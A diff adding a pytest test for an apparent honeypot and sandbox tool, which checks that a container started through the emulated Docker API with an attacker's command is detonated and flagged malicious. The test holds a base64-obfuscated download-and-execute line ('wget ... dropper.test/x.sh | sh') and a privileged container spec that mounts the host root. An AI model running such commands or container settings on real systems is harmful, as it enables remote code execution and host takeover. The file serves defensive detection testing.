@@ -1,0 +1,62 @@
+"""A honeypot deployment detonated for real: the attacker pulls the bundled `benign-web` image
+(from the local test registry) and runs it with its own base64 `sh -c` command; what
+`detonate honeypot-worker` runs detonates the queued scan in the sandbox as deployed, and the
+verdict follows the command."""
+
+from __future__ import annotations
+
+import base64
+import json
+
+import pytest
+
+from detonate.honeypot.worker import drain
+from detonate.model.options import AcquireOptions, SandboxOptions, ScanOptions
+from detonate.store import ScanStatus
+
+from .test_attack_sequences import call
+
+PAYLOAD = "wget -qO- http://dropper.test/x.sh | sh"
+
+
+@pytest.mark.sandbox
+@pytest.mark.registry
+@pytest.mark.slow
+def test_a_clean_image_deployed_with_a_malicious_command_is_detonated_as_run(
+    start_honeypot, registry, built_samples, tmp_path
+):
+    registry.push(built_samples["benign-web"].archive_reference, "benign-web:1")
+    live = start_honeypot()
+    image = f"{registry.host}/benign-web"
+    assert call(live, "POST", f"/v1.41/images/create?fromImage={image}&tag=1")[0] == 200
+    blob = base64.b64encode(PAYLOAD.encode()).decode()
+    create = {
+        "Image": f"{image}:1",
+        "Entrypoint": ["/bin/sh", "-c"],
+        "Cmd": [f"echo {blob} | base64 -d | sh"],
+        "User": "root",
+        "HostConfig": {"Privileged": True, "Binds": ["/:/host"]},
+    }
+    status, _, body = call(live, "POST", "/v1.41/containers/create", create)
+    assert status == 201, body
+    (deployment,) = live.deployments()
+    assert json.loads(deployment.decoded_json) == [PAYLOAD]
+
+    options = ScanOptions(
+        cache_dir=tmp_path / "cache",
+        acquire=AcquireOptions(tls_verify=False),
+        sandbox=SandboxOptions(timeout_seconds=45, idle_seconds=6),
+    )
+    assert deployment.scan_id is not None
+    # what `detonate honeypot-worker --allow-registry 127.0.0.1:PORT` runs
+    (finished,) = drain(live.store, options, registries=("docker.io", registry.host))
+    assert finished.id == deployment.scan_id
+    assert finished.status is ScanStatus.DONE, finished
+    assert finished.verdict in ("malicious", "suspicious")
+    report = json.loads(live.store.report_json(deployment.scan_id) or "{}")
+    argvs = [" ".join(p["argv"]) for p in report["processes"]]
+    assert any("base64 -d" in argv for argv in argvs)  # the attacker's command ran...
+    assert any(argv.startswith("wget") for argv in argvs)  # ...and its decoded stage
+    assert not any("httpd" in argv for argv in argvs)  # not the image's own entrypoint
+    techniques = {f["technique"] for f in report["findings"]}
+    assert techniques & {"T1105", "T1140", "T1059.004"}
